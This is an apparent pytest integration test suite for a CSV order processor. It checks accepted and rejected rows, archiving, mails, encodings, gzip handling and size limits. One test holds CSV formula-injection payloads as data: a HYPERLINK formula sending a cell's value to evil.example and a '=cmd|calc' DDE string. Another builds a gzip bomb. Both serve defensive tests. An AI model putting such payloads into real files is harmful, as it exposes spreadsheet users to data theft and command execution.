"""One file, from received to settled: every outcome, as the tables, the bucket and the mailbox show it."""

from __future__ import annotations

import gzip
from decimal import Decimal
from typing import TYPE_CHECKING, Any

import pytest

from processor.domain.file_states import FileState
from processor.ledger.ledger import Ledger
from tests.integration.stage import BAD_ROW, GOOD_ROWS, HEADER, csv_file
from tests.rejected_files import read_rejected_rows

if TYPE_CHECKING:
    from processor.domain.entries import FileEntry
    from tests.integration.stage import Stage


def test_every_good_row_becomes_an_order(stage: Stage) -> None:
    """Each accepted row is one order with exact amounts, keys in row order, and its origin."""
    entry = stage.process("orders.csv", csv_file(*GOOD_ROWS))

    orders = stage.orders()
    assert [order["order_id"] for order in orders] == ["A-1", "A-2"]
    assert [Decimal(order["line_total"]) for order in orders] == [Decimal("1999.99"), Decimal("2.50")]
    assert [order["row_number"] for order in orders] == ["2", "3"]
    assert {order["file_id"] for order in orders} == {entry.file_id}
    assert {order["run_id"] for order in orders} == {entry.run_id}
    assert {order["trace_id"] for order in orders} == {"1-trace"}
    assert orders[0]["customer_key"] == "ada lovelace#2"
    assert entry.state is FileState.PROCESSED
    assert (entry.accepted_rows, entry.rejected_rows) == (2, 0)


def test_processed_file_leaves_clean_csv_and_its_original(stage: Stage) -> None:
    """The inbox is empty, the original lies untouched in the archive, the enriched rows in processed-data/."""
    body = csv_file(*GOOD_ROWS)

    entry = stage.process("eu/orders.csv", body)

    folder = f"{entry.base:%Y/%m/%d}/{entry.file_id}"
    assert stage.objects() == [f"archive/{folder}/orders.csv", f"processed-data/{folder}/orders.csv"]
    assert stage.read(entry.original_key) == body
    rows = stage.read_csv(entry.accepted_key)
    assert rows[0][:3] == ["order_id", "processed_timestamp", "customer_name"]
    assert [row[1] for row in rows[1:]] == [order["processed_timestamp"] for order in stage.orders()]
    assert stage.mails() == []


def test_bad_rows_wait_with_their_reasons(stage: Stage) -> None:
    """A partly accepted file stores its good rows and lays the bad ones aside with row, column and reason."""
    entry = stage.process("orders.csv", csv_file(GOOD_ROWS[0], BAD_ROW, "A-4,,Pen,0,1.00"))

    assert entry.state is FileState.PARTIAL
    assert (entry.accepted_rows, entry.rejected_rows) == (1, 2)
    rejected = read_rejected_rows(stage.read(entry.rejected_key).decode().splitlines(keepends=True))
    assert [(row.number, row.problems) for row in rejected] == [
        (3, (("quantity", "not a whole number"),)),
        (4, (("customer_name", "empty"), ("quantity", "below 1"))),
    ]
    assert rejected[0].original == BAD_ROW
    assert [key.split("/")[0] for key in stage.objects()] == ["archive", "failed-data", "processed-data"]


def test_rejected_rows_mail_names_counts_and_reasons_but_no_row(stage: Stage) -> None:
    """One mail says what, where, how many and why; customers' names are not in it."""
    entry = stage.process("orders.csv", csv_file(GOOD_ROWS[0], BAD_ROW))

    [mail] = stage.mails()
    assert mail["Subject"] == "[Waybill test] rows rejected: orders.csv"
    assert "1 of 2 rows were not stored" in mail["Message"]
    assert "quantity: not a whole number (1)" in mail["Message"]
    assert entry.rejected_key in mail["Message"]
    assert f"https://console.test/files/{entry.file_id}\n" in mail["Message"]
    assert f"https://console.test/files/{entry.file_id}/runs/{entry.run_id}\n" in mail["Message"]
    assert "Dijkstra" not in mail["Message"]


def test_corrected_rejected_rows_can_be_uploaded_as_they_are(stage: Stage) -> None:
    """The rejected-rows file, corrected in place, is itself a valid order file without warnings."""
    partial = stage.process("orders.csv", csv_file(GOOD_ROWS[0], BAD_ROW))
    corrected = stage.read(partial.rejected_key).replace(b",three,", b",3,")

    entry = stage.process("orders corrected.csv", corrected)

    assert entry.state is FileState.PROCESSED
    assert entry.warnings == ()
    assert sorted(order["order_id"] for order in stage.orders()) == ["A-1", "B-3"]


def test_formulas_come_back_exactly_with_the_corrected_rows(stage: Stage) -> None:
    """In a spreadsheet they are text; corrected there and uploaded again, each value is the one that was sent."""
    names = '=HYPERLINK("https://evil.example/?"&A1)', "x;=cmd|calc!A1", "'=already", "+49 30 1234"
    rows = [f'A-{at},"{name.replace(chr(34), chr(34) * 2)}",Pen,none,1.00' for at, name in enumerate(names)]
    entry = stage.process("orders.csv", csv_file(*rows, header=HEADER))
    rejected = stage.read(entry.rejected_key)

    again = stage.process("corrected.csv", rejected.replace(b"none", b"1"))

    opened = [row[1] for row in stage.read_csv(entry.rejected_key)[1:]]
    assert opened == [f"'{names[0]}", "x;'=cmd|calc!A1", "''=already", "'+49 30 1234"]
    assert again.state is FileState.PROCESSED
    assert {order["customer_name"] for order in stage.orders()} == set(names)


def test_file_whose_every_row_is_bad_is_partial_with_no_empty_object(stage: Stage) -> None:
    """Nothing is accepted, so nothing is written to processed-data/."""
    entry = stage.process("orders.csv", csv_file(BAD_ROW))

    assert entry.state is FileState.PARTIAL
    assert entry.accepted_key == ""
    assert stage.objects("processed-data/") == []
    assert stage.orders() == []


@pytest.mark.parametrize(
    ("name", "body", "cause"),
    [
        ("empty.csv", b"", "empty"),
        ("header.csv", csv_file(), "no_rows"),
        ("blank.csv", b"\n\r\n  \n", "no_header"),
        ("headless.csv", b"A-1,Ada,Engine,1,2.00\n", "no_header"),
        ("old mac.csv", csv_file(GOOD_ROWS[0]).replace(b"\n", b"\r"), "no_header"),
        (
            "short.csv",
            csv_file("A-1,Ada,Engine,1", header="order_id,customer_name,product_name,quantity"),
            "missing_column",
        ),
        (
            "twice.csv",
            csv_file(GOOD_ROWS[0] + ",1", header="order_id,customer_name,product_name,quantity,unit_price,Quantity"),
            "duplicate_column",
        ),
        ("latin.csv", csv_file("A-1,Zoë,Engine,1,2.00").decode().encode("cp1252"), "wrong_encoding"),
        ("utf16.csv", csv_file(GOOD_ROWS[0]).decode().encode("utf-16"), "wrong_encoding"),
        ("cut.csv", csv_file("A-1,Zoë,Engine,1,2.00")[:-16], "wrong_encoding"),
        ("picture.csv", b"\x89PNG\r\n\x1a\n" + bytes(100), "not_csv"),
        ("book.csv", b"PK\x03\x04" + bytes(100), "not_csv"),
        ("packed.csv", gzip.compress(csv_file(GOOD_ROWS[0])), "not_csv"),
        ("plain.csv.gz", csv_file(GOOD_ROWS[0]), "bad_gzip"),
        ("cut.csv.gz", gzip.compress(csv_file(GOOD_ROWS[0]))[:-5], "bad_gzip"),
        ("hollow.csv.gz", gzip.compress(b""), "empty"),
        ("notes.txt", csv_file(GOOD_ROWS[0]), "wrong_name"),
    ],
)
def test_unreadable_file_fails_whole(stage: Stage, name: str, body: bytes, cause: str) -> None:
    """A file that cannot be read stores nothing, goes to failed-data/ untouched, and a person is told why."""
    entry = stage.process(name, body)

    assert (entry.state, entry.cause) == (FileState.FAILED, cause)
    assert stage.orders() == []
    assert stage.objects() == [f"failed-data/{entry.base:%Y/%m/%d}/{entry.file_id}/{name}"]
    assert stage.read(entry.original_key) == body
    [mail] = stage.mails()
    assert entry.error in mail["Message"]


def test_wrong_byte_is_named_by_its_line(stage: Stage) -> None:
    """The error about an encoding says which line and which byte, beyond the first megabyte too."""
    rows = [f"A-{number},Ada,Engine,1,2.00" for number in range(60_000)]
    body = csv_file(*rows) + b"A-x,Zo\xeb,Engine,1,2.00\n"

    entry = stage.process("latin.csv", body)

    assert "Line 60002 holds the byte 0xEB" in entry.error
    assert stage.orders() == []


def test_declared_cp1252_is_read(stage: Stage) -> None:
    """An upload may declare Windows-1252 in its metadata."""
    stage.process("latin.csv", csv_file("A-1,Zoë €,Engine,1,2.00").decode().encode("cp1252"), encoding="cp1252")

    assert [order["customer_name"] for order in stage.orders()] == ["Zoë €"]


def test_unknown_encoding_fails(stage: Stage) -> None:
    """An encoding that is not offered is never guessed at."""
    entry = stage.process("orders.csv", csv_file(*GOOD_ROWS), encoding="ebcdic")

    assert entry.cause == "wrong_encoding"
    assert "utf-8, cp1252" in entry.error


def test_gzip_file_is_processed_and_archived_as_it_came(stage: Stage) -> None:
    """A .csv.gz, of several members too, is read; the archive keeps its bytes."""
    body = gzip.compress(csv_file(GOOD_ROWS[0])) + gzip.compress(f"{GOOD_ROWS[1]}\n".encode())

    entry = stage.process("orders.csv.gz", body)

    assert len(stage.orders()) == 2
    assert stage.read(entry.original_key) == body
    assert entry.accepted_key.endswith("/orders.csv")


def test_gzip_bomb_is_bounded(stage: Stage) -> None:
    """A file that unpacks to more than the limit fails before it fills the memory."""
    stage.configure(max_gzip_bytes=1_000_000)
    bomb = gzip.compress(csv_file(*GOOD_ROWS) + b"\n" * 50_000_000)

    entry = stage.process("bomb.csv.gz", bomb)

    assert entry.cause == "too_large"
    assert "unpacks to more than 1,000,000 bytes" in entry.error
    assert stage.orders() == []


def test_file_over_the_limit_fails(stage: Stage) -> None:
    """A file larger than the limit is not read."""
    stage.configure(max_file_bytes=50)

    entry = stage.process("orders.csv", csv_file(*GOOD_ROWS))

    assert entry.cause == "too_large"
    assert stage.objects("failed-data/") == [entry.original_key]


def test_packed_file_over_the_limit_of_one_run_fails(stage: Stage) -> None:
    """Gzip cannot be read in ranges: what one run cannot hold is refused, and the mail says what can be done."""
    stage.configure(max_gzip_bytes=50)

    entry = stage.process("orders.csv.gz", gzip.compress(csv_file(*GOOD_ROWS)))

    assert entry.cause == "too_large"
    assert "Upload it unpacked" in entry.error


def test_ten_megabyte_cell_costs_one_row(stage: Stage) -> None:
    """A huge cell is one rejected row, cut in the rejected-rows file; its neighbours are stored."""
    huge = f"A-9,{'x' * 10_000_000},Pen,1,1.00"

    entry = stage.process("orders.csv", csv_file(GOOD_ROWS[0], huge, GOOD_ROWS[1]))

    assert (entry.accepted_rows, entry.rejected_rows) == (2, 1)
    assert entry.reasons == ("row: longer than 65,536 characters (1)",)
    assert len(stage.read(entry.rejected_key)) < 100_000


@pytest.mark.parametrize(
    "name", ["Bestellungen März + April.csv", "100% + ünï/cödé=1&2.csv", "注文 2026.csv", "a'b\"c.csv"]
)
def test_any_key_is_processed(stage: Stage, name: str) -> None:
    """Spaces, plus signs, percent signs, quotes and Unicode in keys survive the event's encoding."""
    entry = stage.process(name, csv_file(*GOOD_ROWS))

    assert entry.state is FileState.PROCESSED
    assert entry.object_key == f"raw-data/{name}"
    assert stage.objects("raw-data/") == []


def test_key_of_the_longest_length_is_settled(stage: Stage) -> None:
    """A key of 1,024 bytes still finds room under the settled prefixes."""
    name = "ü" * 505 + ".csv"

    entry = stage.process(name, csv_file(*GOOD_ROWS, BAD_ROW))

    assert entry.state is FileState.PARTIAL
    assert max(len(key.encode()) for key in stage.objects()) <= 1024


def test_unknown_columns_are_named_in_the_warnings(stage: Stage) -> None:
    """Columns that no order has are kept out of the table and mentioned."""
    body = csv_file(
        "x,1.00,2,Pen,Ada,A-1",
        header="Note; unit_price ;QUANTITY;product_name;customer_name;order_id".replace(";", ","),
    )

    entry = stage.process("orders.csv", body)

    assert entry.warnings == ("Columns not used: note.",)
    [order] = stage.orders()
    assert (order["quantity"], order["unit_price"], order["customer_name"]) == ("2", "1.00", "Ada")
    assert "note" not in order


def test_without_the_index_orders_carry_no_customer_key(stage: Stage) -> None:
    """The index is a setting, and its key attribute goes with it."""
    stage.configure(order_indexes=())

    stage.process("orders.csv", csv_file(*GOOD_ROWS))

    assert all("customer_key" not in order for order in stage.orders())


def test_offsets_point_at_the_accepted_rows(stage: Stage) -> None:
    """Each offset in the ledger is where every thousandth accepted row begins, so that a page is one ranged GET."""
    rows = [f"A-{number},Zoë,Pen,1,1.00" for number in range(2_600)]
    version = stage.upload("orders.csv", csv_file(*rows, BAD_ROW))

    stage.deliver(version)

    [run] = stage.runs(version)
    body = stage.read(stage.entry(version).accepted_key)
    assert (run.row_stride, len(run.row_offsets)) == (1000, 3)
    assert [body[offset:].split(b",")[0] for offset in run.row_offsets] == [b"A-0", b"A-1000", b"A-2000"]


def test_outputs_beyond_one_part_are_streamed_whole(stage: Stage, monkeypatch: pytest.MonkeyPatch) -> None:
    """A multipart output holds every accepted row, like a single PUT does."""
    monkeypatch.setattr("processor.storage.objects.PART_BYTES", 5 * 1024 * 1024)
    name = "n" * 190
    body = csv_file(*(f"A-{number},{name},{name},1,1.00" for number in range(15_000)))

    entry = stage.process("orders.csv", body)

    rows = stage.read_csv(entry.accepted_key)
    assert len(rows) == 15_001
    assert rows[-1][0] == "A-14999"
    assert entry.accepted_rows == 15_000


def test_progress_follows_the_rows_and_not_what_was_fetched_ahead(
    stage: Stage, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A file that fits into one block is in memory at once; a third of its rows is a third of the way all the same."""
    reports: list[dict[str, int]] = []

    def report(_ledger: Ledger, _entry: FileEntry, **values: Any) -> None:
        reports.append(values)

    monkeypatch.setattr("processor.pipeline.deadline._PROGRESS_EVERY_S", 0.0)
    monkeypatch.setattr(Ledger, "report_progress", report)
    body = csv_file(*(f"A-{number:03},Ada,Engine,1,1.00" for number in range(2_999)))

    stage.process("orders.csv", body)

    assert reports
    for said in reports:
        assert said["size_bytes"] == len(body)
        assert said["read_bytes"] == len(body) * said["rows"] // 2_999
